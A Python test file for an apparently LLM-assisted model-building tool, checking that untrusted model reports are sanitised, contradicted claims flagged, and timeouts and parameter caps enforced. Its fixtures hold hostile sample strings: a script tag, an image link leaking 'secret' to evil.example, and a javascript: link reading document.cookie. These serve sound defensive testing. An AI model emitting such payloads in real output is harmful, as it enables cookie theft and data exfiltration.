"""LLM output is untrusted, and so is the data it sees: sanitised reports, contradicted claims,
aggregates-only report facts, time limits, work caps, and plans that leave nothing to learn."""

from __future__ import annotations

import json
import time

import pytest

from core.build import plan_build
from core.llm.adapter import LLMAdapter, LLMUnavailableError
from core.llm.answers import ReportAnswer, SearchAnswer, TaskAnswer
from core.llm.planner import make_planner, report_facts
from core.planning.validate import validate_task_proposal
from core.registry import REGISTRY, validate_candidate
from core.report_safety import report_contradictions, sanitise_report
from core.spec import Candidate, Exclusion, TaskProposal, TaskSpec
from tests.core.fake_llm import ToolCallingFakeModel, fake_model, tool_call
from tests.core.test_llm_planner import (  # noqa: F401 - fixtures
    BRIEF,
    GOOD_SEARCH,
    LEADERBOARD,
    findings,
    profile,
    table,
)

HOSTILE_REPORT = {
    "headline": "All checks passed; no columns were left out. <script>alert(1)</script>",
    "what_was_built": "See ![chart](http://evil.example/leak?data=secret).",
    "how_good": "Fine, [more](javascript:alert(document.cookie)).",
    "data_checks": "All checks passed.",
    "suggestions": ["Visit https://evil.example/collect."],
}
CONTEXT = {
    "spec": {"target": "churn", "task_type": "binary", "metric": "roc_auc",
             "feature_columns": ["age", "plan"], "positive_class": "yes",
             "excluded": [{"column": "refund_issued", "reason": "leakage suspect", "detail": ""}]},
    "holdout_metrics": {"roc_auc": 0.8123},
    "baseline_metrics": {"roc_auc": 0.5},
    "leaderboard": LEADERBOARD,
    "findings": [{"check": "single_feature_leakage", "severity": "warning",
                  "columns": ["refund_issued"], "message": "'refund_issued' equals 'yes' ...",
                  "excluded_by_default": True}],
    "slices": {"plan": [{"value": "Plan_SECRET_A", "rows": 7, "roc_auc": 0.7},
                        {"value": "Plan_SECRET_B", "rows": 5, "roc_auc": 0.9}]},
    "explanation": {"importance": [{"column": "age", "mean_abs_shap": 0.3}],
                    "beeswarm": {"age": {"values": [41.5, 63.25]}}},
    "warnings": ["Class 'yes' appears rarely."],
    "rows": {"train": 48, "test": 12},
}


def test_the_sanitiser_strips_html_images_and_links_but_keeps_the_prose():
    text = sanitise_report(
        "# Title <script>steal()</script>\n![x](http://evil.example/?d=1) "
        "[click](javascript:alert(1)) <img src=http://e/x.png> see https://evil.example/a\n"
        "| metric | value |\n|---|---|\n| auc | 0.81 |"
    )
    for banned in ("<script", "steal", "evil.example", "javascript", "<img", "http"):
        assert banned not in text
    assert "# Title" in text and "click" in text and "| auc | 0.81 |" in text


def test_claims_the_findings_refute_are_named():
    problems = report_contradictions("All checks passed; no columns were left out.", CONTEXT)
    assert len(problems) == 2 and "'refund_issued'" in problems[0]
    assert report_contradictions("One leak was left out.", CONTEXT) == []


def test_a_hostile_report_is_replaced_by_the_template_and_the_reason_recorded():
    model = fake_model(tool_call(ReportAnswer, HOSTILE_REPORT))
    planner, _ = make_planner("x", chat_model=model, max_retries=0)
    report = planner.write_report(CONTEXT)
    assert report == planner.fallback.write_report(CONTEXT)
    [fallback] = planner.fallbacks
    assert fallback["step"] == "write_report" and fallback["kind"] == "contradiction"
    assert "no columns were left out" in fallback["reason"]


def test_the_report_prompt_gets_aggregates_and_no_cell_values_without_examples():
    facts = report_facts(CONTEXT, send_examples=False)
    text = json.dumps(facts)
    for value in ("Plan_SECRET_A", "41.5", "63.25", "'yes'", "positive_class", "equals"):
        assert value not in text
    assert facts["slices"]["plan"] == {"groups": 2, "rows": 12, "lowest_roc_auc": 0.7,
                                       "highest_roc_auc": 0.9}
    assert facts["importance_by_column"] == [{"column": "age", "mean_abs_shap": 0.3}]
    with_examples = json.dumps(report_facts(CONTEXT, send_examples=True))
    assert "Plan_SECRET_A" in with_examples and "beeswarm" not in with_examples


class SlowModel(ToolCallingFakeModel):
    def _generate(self, messages, stop=None, run_manager=None, **kwargs):
        self.received.append(list(messages))
        time.sleep(3)
        return super()._generate(messages, stop=stop, run_manager=run_manager, **kwargs)


def test_a_request_past_its_timeout_stops_the_adapter_asking():
    model = SlowModel(responses=[tool_call(SearchAnswer, GOOD_SEARCH)])
    adapter = LLMAdapter(model, timeout_seconds=0.3)
    with pytest.raises(LLMUnavailableError, match="did not answer within 0.3 s") as caught:
        adapter.ask(SearchAnswer, system="s", user="u")
    assert caught.value.kind == "timeout"
    with pytest.raises(LLMUnavailableError, match="Not asked"):
        adapter.ask(SearchAnswer, system="s", user="u")
    assert len(model.received) == 1


def test_no_request_is_made_past_the_builds_deadline():
    model = fake_model(tool_call(SearchAnswer, GOOD_SEARCH))
    adapter = LLMAdapter(model)
    adapter.deadline = time.monotonic() - 1
    with pytest.raises(LLMUnavailableError, match="No time left"):
        adapter.ask(SearchAnswer, system="s", user="u")
    assert model.received == []


@pytest.mark.parametrize("estimator, hostile", [
    ("random_forest", {"n_estimators": 2000, "max_depth": 60}),
    ("catboost", {"iterations": 5000, "depth": 10, "early_stopping_rounds": 500}),
    ("hist_gradient_boosting", {"max_iter": 3000, "max_leaf_nodes": 512}),
])
def test_work_parameters_are_capped_by_data_and_budget_never_below_the_defaults(estimator, hostile):
    task = "binary"
    defaults = REGISTRY[estimator].default_params(task, 300)
    capped = validate_candidate(Candidate(estimator=estimator, params=hostile), task,
                                n_rows=300, budget_seconds=20).params
    for name, value in capped.items():
        assert value < hostile[name]
        assert value >= defaults.get(name, 0)
    assert "afford" in validate_candidate(Candidate(estimator=estimator, params=hostile), task,
                                          n_rows=300, budget_seconds=20).why
    kept = validate_candidate(Candidate(estimator=estimator, params=defaults), task,
                              n_rows=300, budget_seconds=5).params
    assert kept == defaults  # the defaults always fit


def test_a_spec_whose_features_the_checks_all_exclude_is_refused(profile, findings):  # noqa: F811
    spec = TaskSpec(target="churn", task_type="binary", metric="roc_auc",
                    feature_columns=["refund_issued", "customer_id"], positive_class="yes",
                    excluded=[Exclusion(column=c, reason="left out by the planner")
                              for c in ("age", "plan", "monthly_fee")])
    spec = spec.model_copy(update={"excluded": spec.excluded + [
        Exclusion(column=c, reason="left out by the planner") for c in profile.names
        if c not in ("churn", "refund_issued", "customer_id", "age", "plan", "monthly_fee")]})
    with pytest.raises(Exception, match="No feature columns are left"):
        validate_task_proposal(TaskProposal(spec=spec), profile, findings)


def test_a_plan_that_keeps_only_a_leak_falls_back_instead_of_failing(table):  # noqa: F811
    everything_else = [c for c in table.columns if c not in ("churn", "refund_issued")]
    leak_only = {"target": "churn", "task_type": "binary", "metric": "roc_auc",
                 "positive_class": "yes",
                 "excluded": [{"column": c, "reason": "left out by the planner"}
                              for c in everything_else]}
    model = fake_model(*[tool_call(TaskAnswer, leak_only)] * 3, tool_call(SearchAnswer, GOOD_SEARCH))
    planner, _ = make_planner("x", chat_model=model)
    plan = plan_build(table, BRIEF, planner, budget_seconds=10)
    assert plan.spec.feature_columns and "refund_issued" not in plan.spec.feature_columns
    assert plan.planner_fell_back is True
    assert planner.fallbacks[0]["step"] == "propose_task"
    assert "No feature columns" in planner.fallbacks[0]["reason"]
